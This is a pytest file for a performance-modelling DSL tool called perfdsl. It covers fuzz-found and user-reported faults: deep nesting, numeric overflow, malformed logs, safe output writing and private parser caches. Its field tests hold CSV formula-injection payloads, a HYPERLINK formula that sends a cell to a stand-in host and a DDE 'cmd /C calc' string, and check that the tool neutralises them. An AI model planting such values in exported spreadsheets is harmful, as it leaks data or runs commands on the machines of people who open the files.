"""Faults from the field and from fuzzing (issue 9): each case of ../shared/cases/fuzz and our three of
../shared/cases/field, copied under tests/cases/, with the exact error or the right value.

Inputs: tests/cases/fuzz/*.perf and tests/cases/fuzz/logs/* (minimal inputs found by mutating the bundled specs
and logs), tests/cases/field/{smi_not_supported,csv_formula_injection,all_requests_failed}/ (situations users
reported in public, rebuilt small). The CLI runs in-process from the repository root.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from perfdsl import cli

REPO = Path(__file__).resolve().parent.parent
FUZZ = "tests/cases/fuzz"
FIELD = "tests/cases/field"


@pytest.fixture
def run(capsys, monkeypatch):
    """run(*argv) -> (exit status, stdout, stderr), from the repository root; never a traceback or internal error."""
    monkeypatch.chdir(REPO)

    def invoke(*argv: str) -> tuple[int, str, str]:
        capsys.readouterr()
        started = time.process_time()            # CPU time: the machine may be shared with other work
        code = cli.main(list(argv))
        elapsed = time.process_time() - started
        out, err = capsys.readouterr()
        assert "Traceback" not in err and "error[internal]" not in err, err
        assert elapsed < 10, f"{argv} took {elapsed:.1f} s of CPU time"
        return code, out, err

    return invoke


def first_diagnostic(err: str) -> str:
    return err.split("\n\n")[0]


# -- specs: depth ----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name, depth", [("deep_unary_minus", 1001), ("long_sum", 1500)])
def test_deep_formulas_are_a_located_error_naming_the_limit(run, name, depth):
    code, _, err = run("check", f"{FUZZ}/{name}.perf")
    assert code == 1
    lines = first_diagnostic(err).splitlines()
    assert lines[0] == (f"error[too-deep]: this formula nests {depth} levels deep; perfdsl reads formulas at most "
                        "200 levels deep")
    assert lines[1] == f"  --> {FUZZ}/{name}.perf:1:16"
    assert lines[-1] == "  = help: split it into cells, e.g. `part = a + b + c` and `total = part + d + e`"


@pytest.mark.parametrize("formula", ["not " * 1000 + "true", "2" + " ^ 2" * 1000, "(" * 5000 + "1" + ")" * 5000,
                                     " * ".join(["2"] * 3000), "max(" * 800 + "1" + ")" * 800])
def test_other_deep_forms_are_bounded_too(run, tmp_path, formula):
    path = tmp_path / "deep.perf"
    path.write_text(f"model m {{ x = {formula} }}\n")
    code, _, err = run("check", str(path))
    if formula.startswith("("):            # parentheses add no level: a result, not an error
        assert code == 0, err
    else:
        assert code == 1 and "error[too-deep]" in err, err


def test_a_long_chain_of_cells_is_a_located_error(run, tmp_path):
    cells = "\n".join(f"    a{i} = a{i + 1} + 1" for i in range(1500)) + "\n    a1500 = 1"
    path = tmp_path / "chain.perf"
    path.write_text(f"model m {{\n{cells}\n}}\nreport r {{ show m.a0 }}\n")
    code, _, err = run("eval", str(path), "--format", "csv")
    assert code == 1
    assert first_diagnostic(err).splitlines()[0] == (
        "error[too-deep]: 'model.m.a1000' depends on formulas nested more than 2000 levels deep (each cell and each "
        "operation counts one); perfdsl follows at most 2000")


def test_a_block_that_extends_itself_is_a_cycle(run):
    code, _, err = run("check", f"{FUZZ}/self_extends.perf")
    assert code == 1
    assert err == ("error[extends-cycle]: blocks extend each other in a cycle: a -> a\n"
                   f"  --> {FUZZ}/self_extends.perf:1:17\n"
                   "  |\n"
                   "1 | model a extends a { x = 1 }\n"
                   "  |                 ^\n\n"
                   "1 error\n")


def test_a_long_extends_chain_resolves_without_recursion(run, tmp_path):
    code, _, err = run("check", f"{FUZZ}/long_extends_chain.perf")
    assert code == 0, err
    # 5000 blocks, each overriding the cell of the one it extends, evaluated at the end of the chain.
    blocks = [f"model m{i} extends m{i + 1} {{ x = {i} }}" for i in range(5000)] + ["model m5000 { x = 5000 }"]
    path = tmp_path / "chain.perf"
    path.write_text("\n".join(blocks) + "\nreport r { model = m0; show model.x }\n")
    code, out, err = run("eval", str(path), "--format", "csv")
    assert (code, out) == (0, "model.x\n0.0\n"), err


def test_a_syntax_error_then_3000_blocks_is_checked_in_linear_time(run):
    started = time.process_time()
    code, _, err = run("check", f"{FUZZ}/hang_syntax_error_then_3000_blocks.perf")
    elapsed = time.process_time() - started
    assert code == 1
    assert first_diagnostic(err).splitlines()[:2] == [
        "error[syntax]: a cell has no value after '='", f"  --> {FUZZ}/hang_syntax_error_then_3000_blocks.perf:1:13"]
    assert err.endswith("\n1 error\n")
    assert elapsed < 5, f"{elapsed:.1f} s of CPU (was 35 s: every later block re-parsed over the whole text)"


@pytest.mark.parametrize("before_error", ["1" * 100_000, "x" * 100_000 + " +", "a = 1\n" + "\n" * 100_000 + "b"])
def test_syntax_hints_take_linear_time(run, tmp_path, before_error):
    """The hints of a syntax error look back over a bounded window: a 100,000-digit number before a stray '=' took
    minutes (a pattern searched from every position of the text before the error)."""
    path = tmp_path / "long.perf"
    path.write_text(f"model m {{ x = {before_error} = 2 }}\n")
    started = time.process_time()
    code, _, err = run("check", str(path))
    assert code == 1 and err.startswith("error[syntax]"), err
    assert time.process_time() - started < 5


def test_thousands_of_unknown_names_are_checked_quickly(run, tmp_path, monkeypatch):
    """Each unknown name's 'did you mean' compared it with every cell: 3,000 of them took 25 s of CPU (3,000 names x
    3,000 cells = 9 million comparisons). The hints' comparisons are now bounded by errors.SUGGEST_BUDGET per
    command: counted here (the names difflib is handed), not timed, so a loaded machine cannot fail the test."""
    import difflib

    from perfdsl import errors

    handed = []
    real = difflib.get_close_matches
    monkeypatch.setattr(difflib, "get_close_matches",
                        lambda word, pool, *a, **k: handed.append(len(pool)) or real(word, pool, *a, **k))
    cells = "\n".join(f"  c{i} = u{i} + 1" for i in range(3000))
    path = tmp_path / "unknown.perf"
    path.write_text(f"model m {{\n{cells}\n}}\n")
    code, _, err = run("check", str(path))
    assert code == 1 and err.endswith("\n3000 errors\n")
    assert 0 < sum(handed) <= errors.SUGGEST_BUDGET < 3000 * 3000
    code, _, err = run("check", "tests/cases/unknown_name.perf")     # the next command has its hints again
    assert "did you mean" in err


# -- specs: sizes and overflow ---------------------------------------------------------------------------------------

def test_an_import_path_longer_than_the_file_system_allows(run):
    code, _, err = run("check", f"{FUZZ}/import_name_too_long.perf")
    assert code == 1
    assert first_diagnostic(err).splitlines()[0] == ("error[no-such-import]: cannot find the imported file '"
                                                     + "A" * 77 + "...'")


def test_a_unit_power_that_overflows(run):
    code, _, err = run("check", f"{FUZZ}/unit_power_overflow.perf")
    assert code == 1
    assert err == ("error[unit-out-of-range]: the exponent of 'GB^99999' is too large\n"
                   f"  --> {FUZZ}/unit_power_overflow.perf:1:17\n"
                   "  |\n"
                   "1 | model m { x = 1 GB^99999 }\n"
                   "  |                 ^^^^^^^^\n"
                   "  = help: a unit's exponent is at most 99 in size, e.g. 's^-2'\n\n"
                   "1 error\n")


@pytest.mark.parametrize("cell, code", [
    ("x = 1e999", "number-too-large"),
    ("x = 1e300 PB^30", "unit-out-of-range"),
    ("x = 2 GiB^99999999999999999999", "unit-out-of-range"),
    ("x: GB^9999 = 3", "unit-out-of-range"),
])
def test_numeric_overflow_in_constants_and_units_is_located(run, tmp_path, cell, code):
    path = tmp_path / "overflow.perf"
    path.write_text(f"model m {{ {cell} }}\n")
    status, _, err = run("check", str(path))
    assert status == 1 and err.startswith(f"error[{code}]") and f"{path}:1:" in err, err


def test_a_range_with_infinitely_many_points(run):
    code, _, err = run("eval", f"{FUZZ}/range_count_inf.perf")
    assert code == 1
    assert err == ("error[sweep-too-large]: the range of 'a' has more than 1e308 points\n"
                   f"  --> {FUZZ}/range_count_inf.perf:1:22\n"
                   "  |\n"
                   "1 | report r { sweep a = 0 .. 1e308 by 1e-308; show r.a }\n"
                   "  |                      ^^^^^^^^^^^^^^^^^^^^\n"
                   "  = help: a sweep axis holds at most 5,000,000 points\n\n"
                   "1 error\n")


@pytest.mark.parametrize("command", ["check", "eval"])
def test_a_sweep_too_large_for_memory_is_refused_up_front(run, command):
    code, _, err = run(command, f"{FUZZ}/product_1e10_points.perf")
    assert code == 1
    # 1e10 points of 8 bytes: 8e10 / 2^30 = 74.5 GiB for each cell that varies over both axes
    assert err == (
        "error[sweep-too-large]: report 'r' sweeps 10,000,000,000 points (a: 100,000 x b: 100,000); perfdsl "
        "takes on at most 4,000,000,000, in chunks\n"
        f"  --> {FUZZ}/product_1e10_points.perf:1:8\n"
        "  |\n"
        "1 | report r { sweep a = 1 .. 100000; sweep b = 1 .. 100000; q = a * b; show q }\n"
        "  |        ^\n"
        "  = note: each cell that varies over every axis would take 74.5 GiB (8 bytes a point)\n"
        "  = help: narrow the axes with --set (e.g. --set a=...); a sweep of up to 4,000,000,000 points is evaluated "
        "chunk by chunk (-o FILE.csv, .jsonl or .parquet, or a question in the report)\n\n"
        "1 error\n")


def test_sweep_constants_that_overflow(run, tmp_path):
    path = tmp_path / "sweep.perf"
    path.write_text("report r { sweep a = [1e300 * 1e300, 2 ^ 99999]; show r.a }\n")
    code, _, err = run("check", str(path))
    assert code == 1
    # both values overflow: each is an error of its own (every error of a sweep, not the first alone)
    assert err == "".join(
        "error[not-finite]: this sweep value is inf (a division by zero or an overflow)\n"
        f"  --> {path}:1:{col}\n"
        "  |\n"
        "1 | report r { sweep a = [1e300 * 1e300, 2 ^ 99999]; show r.a }\n"
        f"  | {' ' * (col - 1)}{'^' * width}\n"
        "  = help: check the formula and the cells it reads: a sweep value is a finite number\n\n"
        for col, width in ((23, len("1e300 * 1e300")), (38, len("2 ^ 99999")))) + "2 errors\n"


def test_a_number_too_large_for_a_float(run, tmp_path):
    path = tmp_path / "big.perf"
    path.write_text("model m { x = 2e308 }\n")
    code, _, err = run("check", str(path))
    assert code == 1
    assert err == ("error[number-too-large]: '2e308' is too large for a number (the largest is about 1.8e308 in SI "
                   "units)\n"
                   f"  --> {path}:1:15\n"
                   "  |\n"
                   "1 | model m { x = 2e308 }\n"
                   "  |               ^^^^^\n\n"
                   "1 error\n")


# -- logs --------------------------------------------------------------------------------------------------------------

def test_deeply_nested_json_is_a_located_error(run, tmp_path):
    code, _, err = run("ingest", f"{FUZZ}/logs/deep_nesting.json", "-o", str(tmp_path / "runs.csv"))
    assert code == 1
    assert first_diagnostic(err).splitlines()[:2] == [
        "error[too-deep]: the JSON nests too deep to read (lists and objects inside each other more than about "
        "20,000 levels)", f"  --> {FUZZ}/logs/deep_nesting.json"]


def test_a_lone_carriage_return_inside_a_field_is_a_located_warning(run, tmp_path):
    code, _, err = run("ingest", f"{FUZZ}/logs/nvidia_smi_bare_CR.csv", "-o", str(tmp_path / "runs.csv"))
    assert code == 0
    assert first_diagnostic(err).splitlines()[:2] == [
        "warning[bad-value]: cannot read '7\ufffd0 W' as a power in column 'power.draw'",
        f"  --> {FUZZ}/logs/nvidia_smi_bare_CR.csv:3:26 (row 2, column 'power.draw')"]
    assert ("warning[no-energy]: fewer than two power samples in the window for the log; energy left out\n"
            f"  --> {FUZZ}/logs/nvidia_smi_bare_CR.csv\n") in err


def test_a_row_of_only_NA_is_not_dropped_silently(run, tmp_path):
    out = tmp_path / "runs.csv"
    code, _, err = run("ingest", f"{FUZZ}/logs/silent_drop_all_NA_row.csv", "-o", str(out))
    assert code == 0
    assert err == ("warning[no-measurement]: row 1 has no measured value (every quantity is NA); row 1 skipped\n"
                   f"  --> {FUZZ}/logs/silent_drop_all_NA_row.csv:2:1 (row 1)\n"
                   "  |\n"
                   "2 | m,1,NA\n"
                   "  | ^^^^^^\n"
                   "ingest: 1 run from 1 log (perfdsl-csv); wrote " + str(out) + "; 0 errors, 1 warning\n")


def test_a_log_of_a_header_only_says_it_holds_no_run(run, tmp_path):
    # A log given that gives no run is a bad log, as an empty file is (empty-log): an error, exit status 1 (it was a
    # warning, exit status 0).
    log = tmp_path / "runs.csv"
    log.write_text("model,runtime [ms]\n")
    code, _, err = run("ingest", str(log), "-o", str(tmp_path / "out.csv"))
    assert code == 1
    assert err == (f"error[no-rows]: this log holds no run (nothing after its header)\n  --> {log}\n"
                   "  = help: check that the run wrote its rows, or leave the log out\n"
                   "ingest: 0 runs from 1 log; nothing written; 1 error, 0 warnings\n")


def test_a_field_the_csv_module_cannot_read_is_a_located_error(run, tmp_path):
    log = tmp_path / "runs.csv"
    log.write_text('model,runtime [ms]\n"' + "m" * 200_000 + '",5\n')     # csv's field limit is 131,072
    code, _, err = run("ingest", str(log), "-o", str(tmp_path / "out.csv"))
    assert code == 1
    assert err.splitlines()[:2] == ["error[bad-csv]: cannot read the CSV: field larger than field limit (131072)",
                                    f"  --> {log}:2"]


def test_a_header_of_63000_unnamed_columns_gives_one_counted_error(run, tmp_path):
    """Found by our fuzzer: each unnamed column's error quoted the 63 kB header line, gigabytes in all."""
    log = tmp_path / "runs.csv"
    log.write_text("model" + "," * 63_000 + "runtime [ms]\nm" + "," * 63_000 + "5\n")
    started = time.process_time()
    code, _, err = run("ingest", str(log), "-o", str(tmp_path / "out.csv"))
    assert code == 1 and time.process_time() - started < 5
    assert err.splitlines()[0] == "error[empty-column-name]: a column has no name (62,999 times)"
    assert "  = note: also at 1:8, 1:9, 1:10, 1:11, 1:12 and 62,993 more\n" in err
    assert len(err) < 2000


def test_a_header_of_9000_repeated_columns_is_checked_quickly(run, tmp_path):
    """Found by our fuzzer: every duplicate column split the 60 kB header again to place its caret (a minute)."""
    log = tmp_path / "runs.csv"
    log.write_text("model" + ",hardware" * 9000 + ",runtime [ms]\nm" + ",x" * 9000 + ",5\n")
    started = time.process_time()
    code, _, err = run("ingest", str(log), "-o", str(tmp_path / "out.csv"))
    assert code == 1 and err.startswith("error[duplicate-column]: column 'hardware' appears twice (columns 2 and 3)")
    assert time.process_time() - started < 5


def test_a_json_integer_of_6000_digits(run, tmp_path):
    """Found by our fuzzer: Python refuses to convert integers of more than 4,300 digits (error[internal])."""
    log = tmp_path / "runs.jsonl"
    log.write_text('{"model": "m", "n_gpus": ' + "1" * 6000 + ', "runtime [ms]": 5}\n')
    code, _, err = run("ingest", str(log), "-o", str(tmp_path / "out.csv"))
    assert code == 1
    assert err.splitlines()[0] == ("error[bad-json]: not valid JSON: Exceeds the limit (4300 digits) for integer "
                                   "string conversion: value has 6000 digits; use sys.set_int_max_str_digits() to "
                                   "increase the limit")


@pytest.mark.parametrize("between", ["\u2028", "\u2029"])
def test_a_json_error_quotes_its_own_line_after_a_string_holding_a_line_separator(run, tmp_path, between):
    """JSON allows U+2028 and U+2029 unescaped in a string, and json counts lines at '\\n' only: the quoted line is
    the one the error is on (str.splitlines cut at the separator and quoted the line above)."""
    log = tmp_path / "bench.json"
    log.write_text('{"model": "a' + between + 'b",\n "n_gpus": 1,\n "runtime": ,\n "batch": 2}\n')
    code, _, err = run("ingest", str(log), "--format", "vllm-serve", "-o", str(tmp_path / "out.csv"))
    assert code == 1
    assert err.splitlines()[:5] == ["error[bad-json]: not valid JSON: Expecting value",
                                    f"  --> {log}:3:13",
                                    "  |",
                                    '3 |  "runtime": ,',
                                    "  |             ^"]


@pytest.mark.parametrize("between", ["\u2028", "\u2029", "\x0c"])
def test_a_spec_error_quotes_its_own_line_after_a_string_holding_a_line_separator(run, tmp_path, between):
    """The parser counts lines at '\\n' only; the quoted line was str.splitlines' third, 'b"', below the separator."""
    spec = tmp_path / "sep.perf"
    spec.write_text('model m {\n    label = "a' + between + 'b"\n    x = 1 W + 1 s\n}\n')
    code, _, err = run("check", str(spec), "--no-cache")
    assert code == 1
    assert err.startswith(f"error[unit-mismatch]: cannot add '1 W' (W) and '1 s' (s)\n  --> {spec}:3:9\n  |\n"
                          "3 |     x = 1 W + 1 s\n  |         ^^^^^^^^^\n")
    spec.write_text('model m {\n    label = "a' + between + 'b"\n}\nimport "nope.perf"\n')
    code, _, err = run("check", str(spec), "--no-cache")
    assert code == 1
    assert err.startswith(f"error[no-such-import]: cannot find the imported file 'nope.perf'\n  --> {spec}:4:8\n"
                          '  |\n4 | import "nope.perf"\n')


@pytest.mark.parametrize("between", ["\u2028", "\u2029", "\x0c"])
def test_a_syntax_error_quotes_its_own_line_after_a_string_holding_a_line_separator(run, tmp_path, between):
    """The same for the parser's own errors (parser._line_of, the IR builder's quoted lines): the error at line 4
    quoted line 3, `x = 1 W +`, str.splitlines' fourth line."""
    spec = tmp_path / "sep.perf"
    spec.write_text('model m {\n    label = "a' + between + 'b"\n    x = 1 W +\n}\n')
    code, _, err = run("check", str(spec), "--no-cache")
    assert code == 1
    assert err.startswith(f"error[syntax]: unexpected '}}'\n  --> {spec}:4:1\n  |\n4 | }}\n  | ^\n")
    spec.write_text('model m {\n    label = "a' + between + 'b"\n    x = 1 furlong\n}\n')
    code, _, err = run("check", str(spec), "--no-cache")
    assert code == 1
    assert err.startswith(f"error[unknown-unit]: unknown unit 'furlong'\n  --> {spec}:3:11\n  |\n"
                          "3 |     x = 1 furlong\n")


@pytest.mark.parametrize("bom, encoding", [(b"\xef\xbb\xbf", "utf-8"), (b"\xff\xfe", "utf-16-le"),
                                           (b"\xfe\xff", "utf-16-be")])
def test_a_byte_order_mark_names_the_encoding(run, tmp_path, bom, encoding):
    log = tmp_path / "runs.csv"
    log.write_bytes(bom + "model,n_gpus,runtime [ms]\r\nm,1,5\r\n".encode(encoding))
    code, _, err = run("ingest", str(log), "-o", str(tmp_path / "out.csv"))
    assert code == 0 and "1 run from 1 log (perfdsl-csv)" in err, err


def test_bytes_that_are_no_text_are_a_located_error(run, tmp_path):
    log = tmp_path / "runs.csv"
    log.write_bytes(b"model,runtime [ms]\nm,\xff5\n")
    code, _, err = run("ingest", str(log), "-o", str(tmp_path / "out.csv"))
    assert code == 1
    assert first_diagnostic(err).splitlines()[:2] == ["error[log-encoding]: byte 0xff is not UTF-8 text",
                                                      f"  --> {log}:2:3"]


# -- field cases -------------------------------------------------------------------------------------------------------

def test_smi_not_supported_gives_one_warning_per_gpu_and_column_and_exit_0(run, tmp_path):
    out = tmp_path / "runs.csv"
    log = f"{FIELD}/smi_not_supported/two_gpus_one_without_power.csv"
    code, _, err = run("ingest", log, "-o", str(out))
    assert code == 0
    warnings = [line for line in err.splitlines() if line.startswith("warning[")]
    assert warnings == [
        "warning[bad-value]: cannot read '[Not Supported]' as a power in column 'power.draw' of gpu 1 (6 rows)",
        "warning[bad-value]: cannot read '[Not Supported]' as a percentage in column 'utilization.gpu' of gpu 1 "
        "(6 rows)",
        "warning[unmatchable-runs]: the runs of this log name no model: they cannot be matched to estimates"]
    assert "  = note: the same in 5 more rows: 4, 6, 8, 10, 12\n" in err
    rows = list(csv.DictReader(out.open(newline="")))
    # GPU 0: 300..305 W at 1.001 s steps, trapezoids: sum over 5 steps of 1.001 s x mean power
    energy = sum(1.001 * (300 + i + 300 + i + 1) / 2 for i in range(5))
    # (epoch seconds near 1.7e9 as floats carry the millisecond steps to about 1e-7 s)
    assert float(rows[0]["energy [J]"]) == pytest.approx(energy, rel=1e-7)
    assert float(rows[0]["energy [J]"]) == pytest.approx(1514.01, abs=0.005)
    assert rows[1]["energy [J]"] == "NA"


def test_smi_not_supported_one_hour_log(run, tmp_path):
    """The one-hour log: 3,600 samples a GPU, GPU 1 without power. One warning per GPU and column (was 3,600, one per
    sample) plus the log's lack of a model, exit 0, and GPU 0's energy over the hour."""
    out = tmp_path / "runs.csv"
    code, _, err = run("ingest", f"{FIELD}/smi_not_supported/one_hour_two_gpus_one_without_power.csv", "-o", str(out))
    assert code == 0
    assert [line for line in err.splitlines() if line.startswith("warning[")] == [
        "warning[bad-value]: cannot read '[Not Supported]' as a power in column 'power.draw' of gpu 1 (3,600 rows)",
        "warning[unmatchable-runs]: the runs of this log name no model: they cannot be matched to estimates"]
    assert "  = note: the same in 3,599 more rows: 4, 6, 8, 10, 12 and 3,594 more\n" in err
    rows = list(csv.DictReader(out.open(newline="")))
    # GPU 0: 300 W at every one of 3,600 samples 1 s apart, 14:00:00 to 14:59:59: 3,599 s x 300 W
    assert float(rows[0]["window_duration [s]"]) == 3599.0
    assert float(rows[0]["energy [J]"]) == pytest.approx(3599 * 300.0, rel=1e-9)
    assert rows[1]["energy [J]"] == "NA" and rows[1]["memory_global_vram [MiB]"] == "350.0"


def test_csv_formula_injection_through_ingest(run, tmp_path):
    folder = tmp_path / "logs"
    shutil.copytree(REPO / FIELD / "csv_formula_injection", folder)
    out = tmp_path / "runs.csv"
    code, _, err = run("ingest", str(folder / "serve_formula_model_id.json"), "-o", str(out))
    assert code == 0, err
    row = next(csv.DictReader(out.open(newline="")))
    assert row["model"] == "'" + '=HYPERLINK("http://example.invalid/?d="&A1,"open")'
    assert row["hardware"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["n_gpus"] == "1" and row["run_duration [s]"] == "10.0"          # numbers stay numbers
    # perfdsl reads its own CSV back to the original text
    code, _, err = run("ingest", str(out), "-o", str(tmp_path / "again.jsonl"))
    line = json.loads((tmp_path / "again.jsonl").read_text().splitlines()[0])
    assert line["model"] == "'" + '=HYPERLINK("http://example.invalid/?d="&A1,"open")'   # JSONL neutralised too
    from perfdsl.runlogs import load_runs

    record = load_runs([str(out)]).records[0]
    assert record.identity["model"] == '=HYPERLINK("http://example.invalid/?d="&A1,"open")'


def test_csv_formula_injection_through_eval(run):
    perf = f"{FIELD}/csv_formula_injection/eval_csv_hf_id.perf"
    code, out, err = run("eval", perf, "--format", "csv")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[1][0] == "'" + '=HYPERLINK("http://example.invalid","x")'
    assert float(rows[1][1]) > 0
    code, out, _ = run("eval", perf, "--format", "json")
    assert json.loads(out)[0]["Model"] == '=HYPERLINK("http://example.invalid","x")'     # JSON keeps it exact


def test_all_requests_failed_is_an_error_and_no_run(run, tmp_path):
    out = tmp_path / "runs.csv"
    code, _, err = run("ingest", f"{FIELD}/all_requests_failed/serve_all_failed.json", "-o", str(out))
    assert code == 1
    assert err == (
        "error[no-completed-requests]: no request completed (0 of 5): its latency and throughput figures are "
        "placeholders, not measurements, so the run is not used\n"
        f"  --> {FIELD}/all_requests_failed/serve_all_failed.json (key 'completed')\n"
        "  = help: the log's errors say: 'request failed: no first chunk arrived'\n"
        "  = help: rerun the benchmark once the server answers\n"
        "ingest: 0 runs from 1 log; nothing written; 1 error, 0 warnings\n")
    assert not out.exists()


# -- outputs -----------------------------------------------------------------------------------------------------------

def test_ingest_never_writes_over_an_input(run, tmp_path, monkeypatch):
    shutil.copytree(REPO / FIELD / "csv_formula_injection", tmp_path / "logs")
    log = str(tmp_path / "logs" / "serve_formula_model_id.json")
    side = tmp_path / "side.json"
    side.write_text('{"n_gpus": 1}')
    before = side.read_text()
    (tmp_path / "link.csv").symlink_to(side)
    for output in (str(side), str(tmp_path / "link.csv"), str(tmp_path / "." / "side.json")):
        code, _, err = run("ingest", log, "--meta", str(side), "-o", output)
        assert code == 2 and err.startswith("error[output-is-input]"), err
    code, _, err = run("ingest", log, "-o", log + ".meta.json")
    assert code == 2 and err.startswith("error[output-is-input]"), err
    assert side.read_text() == before


def test_eval_to_a_folder_is_a_usage_error(run, tmp_path):
    code, _, err = run("eval", f"{FIELD}/csv_formula_injection/eval_csv_hf_id.perf", "--format", "csv",
                       "-o", str(tmp_path))
    assert code == 2
    assert err == (f"error[bad-output]: cannot write '{tmp_path}': it is a folder\n"
                   f"  = help: name a file, e.g. -o {tmp_path}/results.csv\n\n"
                   "1 error\n")


def test_sigterm_leaves_no_temporary_file(tmp_path):
    """A killed `eval -o x.xlsx` left a hidden temporary file beside the target: SIGTERM now unwinds."""
    target = tmp_path / "x.xlsx"
    # A command that writes its output through atomic_output (as the workbook does) and is slow to finish.
    code = ("import sys, time\n"
            "from perfdsl import cli\n"
            "from perfdsl.output import atomic_output\n"
            "def command(args):\n"
            "    with atomic_output(sys.argv[1], binary=True) as out:\n"
            "        out.write(b'PK'); out.flush(); print('writing', flush=True); time.sleep(30)\n"
            "    return 0\n"
            "cli.cmd_check = command\n"
            "sys.exit(cli.main(['check', sys.argv[1]]))\n")
    process = subprocess.Popen([sys.executable, "-c", code, str(target)], stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, cwd=REPO, text=True)
    assert process.stdout.readline().strip() == "writing"
    assert [p.name for p in tmp_path.iterdir()], "the temporary file exists while writing"
    process.send_signal(signal.SIGTERM)
    _, err = process.communicate(timeout=20)
    assert process.returncode == 128 + signal.SIGTERM, err
    assert list(tmp_path.iterdir()) == []
    assert err == f"terminated by signal {int(signal.SIGTERM)}\n"


def test_the_parser_cache_is_private(tmp_path, monkeypatch):
    """No pickle from a folder another user can write: the cache lives in a folder of our own that nobody else can
    write (made 0700; a 0755 one made by `mkdir -p` will do), or nowhere; a file in it that others could write is
    removed before Lark is given the path, so Lark builds its tables and writes the file afresh."""
    from perfdsl import parser

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    monkeypatch.delenv("PERFDSL_NO_CACHE", raising=False)
    path = parser._cache_file()
    folder = tmp_path / "perfdsl"
    assert path is not None and Path(path).parent == folder
    assert folder.stat().st_mode & 0o777 == 0o700
    folder.chmod(0o777)                        # a folder others can write is not used
    assert parser._cache_file() is None
    folder.chmod(0o755)
    assert parser._cache_file() == path
    Path(path).write_bytes(b"x")
    os.chmod(path, 0o666)                      # nor is a file others can write read: it is removed
    assert parser._cache_file() == path and not Path(path).exists()


_ANALYSES = ("import sys\nimport lark.parsers.lalr_analysis as analysis\n"
             "analysed = []\nreal = analysis.LALR_Analyzer.compute_lalr\n"
             "analysis.LALR_Analyzer.compute_lalr = lambda self: analysed.append(1) or real(self)\n"
             "from perfdsl import parser\n"
             "before = len(analysed)\n"
             "module = parser._build('model m { a = 1 }\\n', 'm.perf', 'start')[0]\n"
             "print(before, module.blocks[0].name, len(analysed))\n")


def _analyses(xdg: Path) -> str:
    """`perfdsl`'s parser made in a new process with XDG_CACHE_HOME=`xdg`: how many times Lark analysed the grammar
    (twice for a build: one per start rule; none for a load), before and after a parse by Lark (not the parse
    cache's)."""
    env = {**os.environ, "XDG_CACHE_HOME": str(xdg), "PERFDSL_NO_CACHE": ""}
    return subprocess.run([sys.executable, "-c", _ANALYSES], env=env, capture_output=True, text=True,
                          check=True).stdout


def test_the_grammar_cache_serves_a_copied_or_moved_folder(tmp_path):
    """The grammar cache entry's key is perfdsl's (the grammar, Lark's options, lark's and Python's versions), not
    Lark's, which holds the entry's own path: a folder copied elsewhere (as the benchmarks' cold runs copy one
    holding only this entry) loads it, and leaves it as it was."""
    first, copy = tmp_path / "first", tmp_path / "copy"
    assert _analyses(first) == "0 m 2\n"
    (entry,) = (first / "perfdsl").glob("grammar-lark*.cache")
    shutil.copytree(first, copy)
    assert _analyses(copy) == "0 m 0\n"
    assert (copy / "perfdsl" / entry.name).read_bytes() == entry.read_bytes()
    from perfdsl import parser

    assert entry.read_bytes().startswith(b"perfdsl-grammar-1 " + parser._grammar_key(parser.grammar_text()).encode()
                                         + b"\n")


@pytest.mark.parametrize("damage", ["garbage", "truncated", "Lark's own format", "another grammar"])
def test_a_damaged_or_foreign_grammar_cache_entry_is_analysed_again_and_rewritten(tmp_path, damage):
    assert _analyses(tmp_path) == "0 m 2\n"
    (entry,) = (tmp_path / "perfdsl").glob("grammar-lark*.cache")
    good = entry.read_bytes()
    header, tables = good.split(b"\n", 1)
    entry.write_bytes({"garbage": b"\x00\xff not a cache" * 10, "truncated": good[:len(good) // 2],
                       "Lark's own format": b"0" * 64 + b"\n" + tables,
                       "another grammar": header[:-4] + b"0000\n" + tables}[damage])
    assert _analyses(tmp_path) == "0 m 2\n"
    assert entry.read_bytes().split(b"\n", 1)[0] == header and entry.stat().st_mode & 0o777 == 0o600
    assert _analyses(tmp_path) == "0 m 0\n"


def test_the_grammar_cache_is_written_private_under_a_group_umask(tmp_path):
    """Lark writes its grammar cache with a plain open(): under umask 002 (common on Ubuntu) the file would be
    group-writable, so never trusted and rebuilt at every start. perfdsl has it written owner-only; the process's
    umask is given back."""
    script = ("import os; os.umask(0o002); from perfdsl import parser; parser._lark(); "
              "print(oct(os.umask(0o002)))")
    env = {**os.environ, "XDG_CACHE_HOME": str(tmp_path)}
    env.pop("PERFDSL_NO_CACHE", None)
    done = subprocess.run([sys.executable, "-c", script], env=env, capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "0o2"
    written = list((tmp_path / "perfdsl").glob("grammar-lark*.cache"))
    assert len(written) == 1 and written[0].stat().st_mode & 0o777 == 0o600
